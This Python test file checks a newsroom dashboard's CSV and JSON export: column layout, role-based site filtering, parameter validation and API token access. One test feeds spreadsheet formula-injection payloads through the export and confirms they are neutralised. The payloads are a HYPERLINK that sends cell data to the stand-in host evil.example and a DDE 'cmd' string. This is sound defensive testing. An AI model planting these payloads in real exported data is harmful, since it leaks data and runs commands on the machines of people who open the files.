"""Export on both databases: CSV and JSON, formula cells, filters, roles, the API."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from starlette.testclient import TestClient

from corrigo.config import Settings
from corrigo.store.db import make_engine, make_sessionmaker
from corrigo.store.export import GROUP_COLUMNS, REPORT_COLUMNS
from corrigo.store.models import Editor
from corrigo.store.tokens import create_token
from tests.dashboard.helpers import Newsroom, ingest, sign_in

FORMULAS = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "title": "+cmd|' /C calc'!A0",
    "suggestion": "@SUM(1+1)",
}


def rows_of(answer: Any) -> list[list[str]]:
    text = answer.content.decode("utf-8")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_csv_download_of_groups(newsroom: Newsroom, app_client: Callable[..., TestClient]) -> None:
    client = app_client()
    sign_in(client, newsroom.admin)
    answer = client.get("/dashboard/export/download?what=groups&format=csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="corrigo-groups-')
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.content.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
    rows = rows_of(answer)
    assert tuple(rows[0]) == GROUP_COLUMNS
    records = as_dicts(rows)
    assert sorted(int(r["id"]) for r in records) == sorted(
        newsroom.groups["news"] + newsroom.groups["sport"]
    )
    first = next(r for r in records if r["exact"] == "the the")
    assert first["site"] == "news" and first["status"] == "open" and first["report_count"] == "1"
    assert first["fragment_url"].startswith("https://news.example/2024/budget#:~:text=")


def test_formula_cells_are_neutralised_end_to_end(
    newsroom: Newsroom, app_client: Callable[..., TestClient]
) -> None:
    reader = app_client()
    group = ingest(reader, "news", "counsil", path="/evil", **FORMULAS)
    client = app_client()
    sign_in(client, newsroom.admin)
    reports = as_dicts(rows_of(client.get("/dashboard/export/download?what=reports&format=csv")))
    [hostile] = [r for r in reports if int(r["group_id"]) == group]
    for field, payload in FORMULAS.items():
        assert hostile[field] == "'" + payload
    groups = as_dicts(rows_of(client.get("/dashboard/export/download?what=groups")))
    assert next(g for g in groups if int(g["id"]) == group)["title"] == "'" + FORMULAS["title"]
    # JSON is data, not a spreadsheet: the reader's text comes back exactly.
    data = client.get("/dashboard/export/download?what=reports&format=json").json()
    [same] = [r for r in data if r["group_id"] == group]
    assert {field: same[field] for field in FORMULAS} == FORMULAS


def test_json_download_has_the_csv_columns(
    newsroom: Newsroom, app_client: Callable[..., TestClient]
) -> None:
    client = app_client()
    sign_in(client, newsroom.admin)
    answer = client.get("/dashboard/export/download?what=reports&format=json")
    assert answer.headers["content-type"] == "application/json"
    data = json.loads(answer.content)
    assert len(data) == 5
    assert all(tuple(item) == REPORT_COLUMNS for item in data)
    assert "reader_hash" not in answer.text
    assert client.get("/dashboard/export/download?what=groups&format=json").json()[0].keys() == set(
        GROUP_COLUMNS
    )


def test_inbox_filters_apply(newsroom: Newsroom, app_client: Callable[..., TestClient]) -> None:
    reader = app_client()
    ingest(reader, "news", "the the", comment="doubled word here")
    client = app_client()
    sign_in(client, newsroom.admin)

    def exported(**params: str) -> list[dict[str, str]]:
        answer = client.get("/dashboard/export/download", params={"what": "reports", **params})
        assert answer.status_code == 200, answer.text
        return as_dicts(rows_of(answer))

    assert {r["site"] for r in exported(site="sport")} == {"sport"}
    assert len(exported(site="sport")) == 2
    # Search picks the group; every report of it is exported.
    assert [r["exact"] for r in exported(q="doubled")] == ["the the", "the the"]
    assert exported(q="zzqxj") == []
    assert exported(status="fixed") == []
    assert exported(url="https://sport.example/") != []
    assert exported(url="https://nowhere.example/") == []
    assert len(exported(since="2000-01-01")) == 6
    assert exported(until="2000-01-01") == []


def test_an_editor_exports_only_their_sites(
    newsroom: Newsroom, app_client: Callable[..., TestClient]
) -> None:
    reader = app_client()
    ingest(reader, "sport", "Zqsportquote", comment="Zqsportcomment", path="/zq")
    client = app_client()
    sign_in(client, newsroom.editors["news"])
    for what in ("groups", "reports"):
        for fmt in ("csv", "json"):
            answer = client.get(f"/dashboard/export/download?what={what}&format={fmt}")
            assert answer.status_code == 200
            assert "Zqsport" not in answer.text and "sport" not in answer.text
    assert len(as_dicts(rows_of(client.get("/dashboard/export/download")))) == 3
    for site in ("sport", "missing"):
        answer = client.get("/dashboard/export/download", params={"site": site})
        assert answer.status_code == 404
        assert "Zqsport" not in answer.text
    assert client.get("/dashboard/export?site=sport").status_code == 404
    form = client.get("/dashboard/export").text
    assert "Sport Weekly" not in form and "Daily News" in form


def test_bad_parameters_show_the_form_again(
    newsroom: Newsroom, app_client: Callable[..., TestClient]
) -> None:
    client = app_client()
    assert client.get("/dashboard/export", follow_redirects=False).status_code == 303
    assert client.get("/dashboard/export/download", follow_redirects=False).status_code == 303
    sign_in(client, newsroom.admin)
    for params in ({"since": "yesterday"}, {"what": "everything"}, {"format": "xlsx"},
                   {"status": "deleted"}, {"q": "x" * 201}):  # fmt: skip
        answer = client.get("/dashboard/export/download", params=params)
        assert answer.status_code == 400, params
        assert "A filter value is not valid" in answer.text
        assert 'action="/dashboard/export/download"' in answer.text
    prefilled = client.get("/dashboard/export?status=open&q=%3Cb%3E").text
    assert '<option value="open" selected>' in prefilled
    assert 'value="&lt;b&gt;"' in prefilled


def _editor_token(settings: Settings, email: str) -> str:
    engine = make_engine(settings.resolved_database_url)
    with make_sessionmaker(engine)() as session:
        editor = session.query(Editor).filter_by(email=email).one()
        token = create_token(session, "export", editor_id=editor.id)
        session.commit()
    engine.dispose()
    return token


def test_api_export_with_tokens(
    newsroom: Newsroom,
    app_client: Callable[..., TestClient],
    admin_token: str,
    settings: Settings,
) -> None:
    client = app_client()
    answer = client.get("/api/v1/export?what=groups&format=json")
    assert answer.status_code == 401
    assert answer.json()["error"] == "unauthorized"
    admin = {"authorization": f"Bearer {admin_token}"}
    everything = client.get("/api/v1/export?what=groups&format=json", headers=admin)
    assert everything.status_code == 200
    assert len(everything.json()) == 5
    csv_answer = client.get("/api/v1/export?what=reports", headers=admin)
    assert not csv_answer.content.startswith("\ufeff".encode())  # for programs: no BOM
    assert len(rows_of(csv_answer)) == 6
    editor = {"authorization": f"Bearer {_editor_token(settings, newsroom.editors['sport'])}"}
    mine = client.get("/api/v1/export?format=json", headers=editor).json()
    assert {item["site"] for item in mine} == {"sport"}
    assert client.get("/api/v1/export?site=news", headers=editor).status_code == 404
    bad = client.get("/api/v1/export?format=xml", headers=admin)
    assert bad.status_code == 422
    assert bad.json() == {
        "error": "invalid",
        "message": "format must be one of csv, json",
        "field": "format",
    }
    wrong = client.get("/api/v1/export", headers={"authorization": "Bearer cgo_nope"})
    assert wrong.status_code == 401


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_api_export_for_a_signed_in_session(
    newsroom: Newsroom, app_client: Callable[..., TestClient], fmt: str
) -> None:
    client = app_client()
    sign_in(client, newsroom.editors["news"])
    answer = client.get(f"/api/v1/export?what=groups&format={fmt}")
    assert answer.status_code == 200
    assert "sport" not in answer.text
